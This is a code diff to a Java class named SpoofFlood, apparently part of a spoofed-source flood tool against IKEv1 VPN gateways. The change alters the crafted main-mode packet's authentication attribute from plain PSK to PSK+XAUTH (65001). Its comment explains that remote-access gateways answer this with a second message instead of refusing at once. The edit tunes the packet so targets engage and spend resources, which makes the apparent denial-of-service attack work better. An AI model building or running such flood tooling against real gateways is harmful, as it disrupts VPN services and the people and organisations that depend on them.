@@ -22,7 +22,11 @@ import java.util.concurrent.locks.LockSupport;
 public final class SpoofFlood {
   private SpoofFlood() {}
 
-  /** A main mode first message: one transform, aes256-sha256-modp2048, PSK (84 bytes). */
+  /**
+   * A main mode first message: one transform, aes256-sha256-modp2048, PSK + Xauth (65001, what a
+   * remote-access gateway answers with its second message; plain PSK it refuses at once) (84
+   * bytes).
+   */
   static byte[] mainModeFirst(long icookie) {
     ByteBuffer b = ByteBuffer.allocate(84);
     b.putLong(icookie).putLong(0); // cookies
@@ -33,7 +37,7 @@ public final class SpoofFlood {
     b.put((byte) 1).put((byte) 1).put((byte) 0).put((byte) 1); // #1, ISAKMP, no SPI, 1 transform
     b.put((byte) 0).put((byte) 0).putShort((short) 36); // transform payload
     b.put((byte) 1).put((byte) 1).putShort((short) 0); // #1, KEY_IKE
-    int[][] attrs = {{1, 7}, {14, 256}, {2, 4}, {3, 1}, {4, 14}, {11, 1}, {12, 28800}};
+    int[][] attrs = {{1, 7}, {14, 256}, {2, 4}, {3, 65001}, {4, 14}, {11, 1}, {12, 28800}};
     for (int[] a : attrs) {
       b.putShort((short) (0x8000 | a[0])).putShort((short) a[1]);
     }
